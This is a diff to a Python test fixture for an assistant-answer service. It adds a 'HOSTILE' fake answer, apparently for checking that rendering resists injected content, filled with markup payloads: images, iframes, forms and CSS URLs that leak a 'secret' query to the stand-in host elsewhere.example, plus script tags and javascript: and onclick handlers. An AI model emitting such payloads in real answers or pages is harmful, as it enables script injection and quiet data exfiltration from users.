@@ -139,6 +139,31 @@ NOT_FOUND = replace(
 )
 
 
+ELSEWHERE = "https://elsewhere.example/?q=secret"
+ATTACK = " ".join(
+    (
+        f"![x]({ELSEWHERE})",
+        f"<img src='{ELSEWHERE}'>",
+        f"<video poster='{ELSEWHERE}'></video>",
+        "<script>document.title='owned'</script>",
+        f"<style>body{{background:url({ELSEWHERE})}}</style>",
+        f"<form action='{ELSEWHERE}'><input></form>",
+        f"<iframe src='{ELSEWHERE}'></iframe>",
+        "[klikk](javascript:alert(1)) <b onclick=alert(1)>feit</b>",
+    )
+)
+HOSTILE = replace(
+    ANSWERED,
+    text=f"{ATTACK}\n\n> {ATTACK} [1]\n\n- {ATTACK}\n\n![x][1]\n\n[1]: {ELSEWHERE}\n",
+    citations=(
+        replace(citation(), title=ATTACK, quote=ATTACK, context=f"{ATTACK}\n\n{ATTACK}", section=(ATTACK,)),
+    ),
+    notices=(ATTACK,),
+    statements=(ATTACK,),
+)
+"""As a document might be that somebody has put traps into."""
+
+
 class FakeAssistant:
     """Answers at once; `hold` makes it wait until `release` is set, `error` makes it raise."""
 
@@ -162,7 +187,7 @@ class FakeAssistant:
         self.release.wait(20)
         if self.error:
             raise self.error
-        answer = NOT_FOUND if "vær" in question.text else ANSWERED
+        answer = _answer_to(question.text)
         for statement in answer.statements:
             if on_statement:
                 on_statement(statement)
@@ -183,6 +208,12 @@ class FakeAssistant:
 
     def generation(self) -> str:
         return "g000001"
+
+
+def _answer_to(text: str) -> Answer:
+    if "angrep" in text:
+        return HOSTILE
+    return NOT_FOUND if "været" in text else ANSWERED
 
 
 def ready_provider(assistant: FakeAssistant) -> AssistantProvider:
